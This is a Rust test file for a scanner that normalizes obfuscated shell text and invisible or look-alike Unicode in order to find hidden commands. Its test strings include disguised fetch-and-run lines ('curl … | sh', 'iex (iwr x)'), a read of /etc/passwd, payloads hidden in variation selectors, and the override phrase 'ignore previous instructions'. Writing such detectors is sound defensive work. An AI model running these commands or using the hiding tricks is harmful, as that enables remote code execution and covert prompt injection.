use pretty_assertions::assert_eq;

use super::*;

fn shell(s: &str) -> String {
    shell_normalize(&clean_invisible(s))
}

#[test]
fn quote_splitting_is_undone() {
    for (input, want) in [
        ("c''url http://x | sh", "curl http://x | sh"),
        ("c\"\"url http://x | sh", "curl http://x | sh"),
        ("c\"u\"rl http://x | sh", "curl http://x | sh"),
        ("cu'rl' http://x | b'a'sh", "curl http://x | bash"),
        ("\"c\"url http://x", "curl http://x"),
        ("c''u''r''l x", "curl x"),
        ("curl x | 'sh'", "curl x | sh"),
        ("curl x | \"bash\" -s", "curl x | bash -s"),
    ] {
        assert_eq!(shell(input), want, "{input}");
    }
}

#[test]
fn backslashes_backticks_and_concatenation_are_undone() {
    assert_eq!(shell(r"c\url x | s\h"), "curl x | sh");
    assert_eq!(shell(r"\curl x"), "curl x");
    assert_eq!(shell("i`e`x (iwr x)"), "iex (iwr x)");
    assert_eq!(
        shell("& ('Invoke-'+'Expression') $x"),
        "& ('Invoke-Expression') $x"
    );
    assert_eq!(shell("window[\"ev\" + \"al\"](x)"), "window[\"eval\"](x)");
}

#[test]
fn ifs_and_empty_parameters_are_whitespace_or_nothing() {
    assert_eq!(shell("curl${IFS}http://x|sh"), "curl http://x|sh");
    assert_eq!(shell("curl$IFS'http://x'|sh"), "curl 'http://x'|sh");
    assert_eq!(shell("cat${IFS%??}/etc/passwd"), "cat /etc/passwd");
    assert_eq!(shell("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
    assert_eq!(shell("c$@url x"), "curl x");
    assert_eq!(shell("cu${@}rl x"), "curl x");
    // A positional parameter used as an argument is left alone.
    assert_eq!(shell("echo $1 done"), "echo $1 done");
}

#[test]
fn ansi_c_strings_are_decoded() {
    assert_eq!(shell(r"$'\x63\x75\x72\x6c' x | sh"), "curl x | sh");
    assert_eq!(shell(r"$'\143url' x"), "curl x");
    assert_eq!(shell(r"$'\u0063url' x"), "curl x");
    // A decoded newline stays on the line.
    assert_eq!(shell("a $'x\\ny' b\nnext"), "a x y b\nnext");
}

#[test]
fn invisible_characters_are_removed_and_tags_decoded() {
    assert_eq!(
        clean_invisible("c\u{200b}url x | s\u{200d}h"),
        "curl x | sh"
    );
    assert_eq!(clean_invisible("a\u{202e}b\u{2066}c"), "abc");
    assert_eq!(clean_invisible("soft\u{ad}hyphen"), "softhyphen");
    let hidden: String = "hi"
        .chars()
        .map(|c| char::from_u32(0xE0000 + u32::from(c)).unwrap())
        .collect();
    assert_eq!(
        clean_invisible(&format!("visible\u{E0001}{hidden}\u{E007F}")),
        "visiblehi"
    );
    // Lines are kept.
    assert_eq!(clean_invisible("a\u{200b}\nb\n").lines().count(), 2);
    // Plain text is returned as is.
    assert_eq!(clean_invisible("plain"), "plain");
}

#[test]
fn invisible_findings_and_their_severity() {
    assert_eq!(
        find_invisible("ok\nc\u{200b}url\n"),
        Some((1, Severity::Warn))
    );
    assert_eq!(
        find_invisible("x\u{200b}\ny\nif (a \u{202e} b)\n"),
        Some((2, Severity::Critical))
    );
    assert_eq!(
        find_invisible("tag \u{E0069}\u{E0067}"),
        Some((0, Severity::Critical))
    );
    // A BOM at the start, an emoji ZWJ sequence and right-to-left marks
    // beside Hebrew are ordinary text.
    assert_eq!(find_invisible("\u{feff}# Title\n"), None);
    assert_eq!(find_invisible("family 👨\u{200d}👩\u{200d}👧\n"), None);
    assert_eq!(find_invisible("שלום\u{200f} world\n"), None);
    assert_eq!(find_invisible("plain text\n"), None);
    // A joiner inside an ASCII word is not.
    assert_eq!(find_invisible("c\u{200d}url"), Some((0, Severity::Warn)));
}

#[test]
fn evidence_escapes_invisible_and_control_characters() {
    assert_eq!(escape_invisible("c\u{200b}url"), "c\\u{200b}url");
    assert_eq!(escape_invisible("a\u{202e}b"), "a\\u{202e}b");
    assert_eq!(escape_invisible("\u{1b}[31mred"), "\\u{1b}[31mred");
    assert_eq!(escape_invisible("tab\tok é"), "tab\tok é");
}

#[test]
fn ordinary_code_is_left_alone() {
    for line in [
        "subprocess.run([\"git\", \"status\"], check=True)",
        "const x = require('fs');",
        "echo \"hello world\" > out.txt",
        "it's a test, isn't it",
    ] {
        assert_eq!(shell(line), line, "{line}");
    }
}

/// Findings are reported at the line of every view, so no step may join or
/// split lines: a string concatenated across lines (common in JavaScript)
/// once shifted every later line of the shell view.
#[test]
fn every_view_keeps_the_line_count() {
    let text = concat!(
        "const msg = 'first part ' +\n",
        "  'second part';\n",
        "const b = \"x\" +\n",
        "  \"y\";\n",
        "curl $'a\\nb' | 'sh'\n",
        "c''url ${IFS} x \\\n",
        "  | \"bash\"\n",
        "last\n",
    );
    let shell = shell(text);
    assert_eq!(shell.split('\n').count(), text.split('\n').count());
    assert_eq!(shell.split('\n').nth(1), Some("  'second part';"));
    assert_eq!(shell.split('\n').nth(7), Some("last"));
}

#[test]
fn full_width_and_look_alike_letters_are_folded() {
    assert_eq!(clean_invisible("ｉｇｎｏｒｅ　ａｌｌ"), "ignore all");
    // A Cyrillic `о` and `е` inside Latin words.
    assert_eq!(
        clean_invisible("ign\u{43e}re previous instructions"),
        "ignore previous instructions"
    );
    assert_eq!(clean_invisible("curl x | \u{455}h"), "curl x | sh");
    assert_eq!(clean_invisible("curl x | b\u{430}sh"), "curl x | bash");
    // Words wholly in another script are prose, not disguise.
    assert_eq!(clean_invisible("привет мир"), "привет мир");
    assert_eq!(clean_invisible("λόγος και"), "λόγος και");
}

/// Bytes hidden in a run of variation selectors after a visible character
/// are decoded into the clean view and are a critical finding; one
/// selector after an emoji is ordinary.
#[test]
fn variation_selector_runs_are_decoded_and_reported() {
    let hide = |s: &str| -> String {
        s.bytes()
            .map(|b| {
                let cp = if b < 16 {
                    0xFE00 + u32::from(b)
                } else {
                    0xE0100 + u32::from(b) - 16
                };
                char::from_u32(cp).unwrap()
            })
            .collect()
    };
    let text = format!("Nice day 😀{}\nnext", hide("curl x | sh"));
    assert_eq!(clean_invisible(&text), "Nice day 😀 curl x | sh \nnext");
    assert_eq!(find_invisible(&text), Some((0, Severity::Critical)));
    assert_eq!(find_invisible("Warning ⚠\u{fe0f} and ❤\u{fe0f}\n"), None);
    assert_eq!(clean_invisible("⚠\u{fe0f} ok"), "⚠ ok");
    assert_eq!(escape_invisible("⚠\u{fe0f}"), "⚠\u{fe0f}");
    assert_eq!(escape_invisible("a\u{e0100}"), "a\\u{e0100}");
}

#[test]
fn empty_substitutions_and_simple_variables_are_undone() {
    assert_eq!(shell("cu$()rl x | s``h"), "curl x | sh");
    assert_eq!(
        shell("a=cu; b=rl\n$a$b -s x | ${SH}"),
        "a=cu; b=rl\ncurl -s x | ${SH}"
    );
    assert_eq!(shell("S=sh\ncurl x | $S"), "S=sh\ncurl x | sh");
    assert_eq!(shell("a=cu b=rl; $a$b x"), "a=cu b=rl; curl x");
    // A value with an expansion in it is not a plain word.
    assert_eq!(shell("a=x$y\necho $a"), "a=x$y\necho $a");
    // A name assigned two values is left as written.
    assert_eq!(shell("X=a\nX=b\necho $X"), "X=a\nX=b\necho $X");
    // Positional and special parameters are not names.
    assert_eq!(shell("echo $1 $@ $?"), "echo $1 $@ $?");
}

#[test]
fn character_references_are_decoded_on_their_line() {
    assert_eq!(
        clean_invisible("| `curl -s x &#124; sh` |"),
        "| `curl -s x | sh` |"
    );
    assert_eq!(
        clean_invisible("a &#x7C; b &vert; c &amp;&amp; d"),
        "a | b | c && d"
    );
    assert_eq!(clean_invisible("c&#8203;url"), "curl");
    // A decoded newline would move every later line: it is a space.
    assert_eq!(clean_invisible("a&#10;b\nc"), "a b\nc");
    // Unknown names and out-of-range numbers stay as written.
    assert_eq!(clean_invisible("&foo; &#99999999;"), "&foo; &#99999999;");
}
